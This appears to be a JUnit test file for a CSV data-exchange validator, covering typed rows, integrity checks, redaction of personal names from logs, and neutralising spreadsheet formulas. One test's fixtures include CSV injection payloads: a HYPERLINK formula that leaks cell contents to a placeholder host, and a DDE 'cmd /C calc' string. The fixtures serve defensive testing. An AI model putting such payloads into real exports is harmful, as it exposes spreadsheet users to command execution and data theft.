package org.rowan.exchange;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.io.StringWriter;
import java.nio.file.Path;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.List;
import org.assertj.core.api.InstanceOfAssertFactories;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.rowan.kernel.Problem;
import org.rowan.kernel.Progress;

class ExchangeSetTest {
    @TempDir
    private Path folder;

    @Test
    void rows_come_with_their_lines_and_typed_values() throws IOException {
        List<Row> notes = rows(new GoodSet().folder(folder), ExchangeFiles.NOTES);
        Row note = notes.getLast();

        assertThat(notes).hasSize(2);
        assertThat(note.line()).isEqualTo(3);
        assertThat(note.text("support_id")).isEqualTo("S2");
        assertThat(note.moment("at")).isEqualTo(LocalDateTime.of(2020, 7, 1, 15, 0));
        assertThat(note.number("minutes")).isNull();
        assertThat(note.isEmpty("referral_id")).isTrue();
        assertThat(notes.getFirst().value(ExchangeFiles.NOTES.position("minutes")))
                .isEqualTo(45);
        Row unit = rows(folder, ExchangeFiles.UNITS).getFirst();
        assertThat(unit.day("opened")).isEqualTo(LocalDate.of(2018, 4, 1));
        assertThat(unit.yesNo("takes_men")).isFalse();
        assertThat(unit.text("access")).isEqualTo("step_free;wheelchair");
    }

    @Test
    void text_that_looks_like_a_formula_comes_letter_by_letter() {
        Path formulas = GoodSet.BAD.resolve("hostile_formula_cells");

        assertThat(rows(formulas, ExchangeFiles.PEOPLE).stream().map(row -> row.text("given_name")))
                .containsExactly(
                        "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"click\")",
                        "+44 24 0000 0000",
                        "-2+3",
                        "@SUM(1+1)*cmd|' /C calc'!A0",
                        "\t=1+1");
        assertThat(rows(formulas, ExchangeFiles.NOTES).getFirst().text("text")).isEqualTo("=1+1\n@SUM(A1:A9)");
    }

    @Test
    void a_file_that_the_set_does_not_have_has_no_rows() throws IOException {
        assertThat(rows(new GoodSet().without("needs.csv").folder(folder), ExchangeFiles.NEEDS))
                .isEmpty();
    }

    @Test
    void no_row_is_handed_out_of_a_set_that_is_unchecked_or_at_fault() throws IOException {
        new GoodSet().with("recourse.csv", 2, "P9,2020-07-01,no").folder(folder);

        try (ExchangeSet set = ExchangeSet.open(folder)) {
            assertThatThrownBy(() -> set.rows(ExchangeFiles.PEOPLE, row -> {}))
                    .isInstanceOf(IllegalStateException.class);
            set.check(GoodSet.NOW, Progress.SILENT);
            assertThatThrownBy(() -> set.rows(ExchangeFiles.PEOPLE, row -> {}))
                    .isInstanceOf(IllegalStateException.class);
        }
    }

    @Test
    void a_set_that_changes_between_the_check_and_the_storing_is_refused() throws IOException {
        new GoodSet().folder(folder);

        try (ExchangeSet set = ExchangeSet.open(folder)) {
            assertThat(set.check(GoodSet.NOW, Progress.SILENT).none()).isTrue();
            new GoodSet().with("recourse.csv", 2, "P1,2020-07-01,no").folder(folder);

            assertThatThrownBy(() -> set.rows(ExchangeFiles.RECOURSE, row -> {}))
                    .asInstanceOf(InstanceOfAssertFactories.type(Problem.class))
                    .returns(Problem.Kind.INPUT, Problem::kind);
        }
    }

    @Test
    void a_place_without_a_set_is_a_fault_of_the_call() {
        assertThatThrownBy(() -> ExchangeSet.open(folder.resolve("nowhere")))
                .asInstanceOf(InstanceOfAssertFactories.type(Problem.class))
                .returns(Problem.Kind.CALL, Problem::kind);
    }

    @Test
    void faults_are_written_as_csv_in_which_no_spreadsheet_finds_a_formula() throws IOException {
        new GoodSet()
                .with("recourse.csv", 2, "=1+1,2020-07-01,@no")
                .with("voids.csv", 1, "unit_id,from,=to,reason")
                .folder(folder);
        StringWriter csv = new StringWriter();
        try (ExchangeSet set = ExchangeSet.open(folder)) {
            set.check(GoodSet.NOW, Progress.SILENT).writeTo(csv);
        }

        assertThat(csv.toString().split("\r\n"))
                .containsExactly(
                        "file,line,column,value,fault,accepted",
                        "voids.csv,1,'=to,'=to,unknown_column,\"one of unit_id, from, to, reason\"",
                        "recourse.csv,2,status,'@no,unknown_code,\"one of yes, no, concession, not_known\"",
                        "recourse.csv,2,person_id,'=1+1,reference_to_nothing,an id that is in people.csv");
    }

    @Test
    void nothing_of_a_person_is_in_the_words_that_a_log_could_show() throws IOException {
        new GoodSet().with("people.csv", 2, "P1,Ewa,Ewa,Ewa,Ewa,,,,,,,,,").folder(folder);
        try (ExchangeSet set = ExchangeSet.open(folder)) {
            assertThat(set.check(GoodSet.NOW, Progress.SILENT).first().toString())
                    .doesNotContain("Ewa");
        }
        assertThat(rows(GoodSet.BAD.resolve("good_base"), ExchangeFiles.PEOPLE).toString())
                .doesNotContain("Ewa");
    }

    @Test
    void a_long_value_is_cut_in_its_fault() throws IOException {
        new GoodSet()
                .with("recourse.csv", 2, "P2,2020-07-01," + "n".repeat(5_000))
                .folder(folder);

        try (ExchangeSet set = ExchangeSet.open(folder)) {
            assertThat(set.check(GoodSet.NOW, Progress.SILENT)
                            .first()
                            .getFirst()
                            .value())
                    .hasSize(201);
        }
    }

    static List<Row> rows(Path path, FileSpec file) {
        List<Row> rows = new ArrayList<>();
        try (ExchangeSet set = ExchangeSet.open(path)) {
            assertThat(GoodSet.words(set.check(GoodSet.NOW, Progress.SILENT))).isEmpty();
            set.rows(file, rows::add);
        }
        return rows;
    }
}
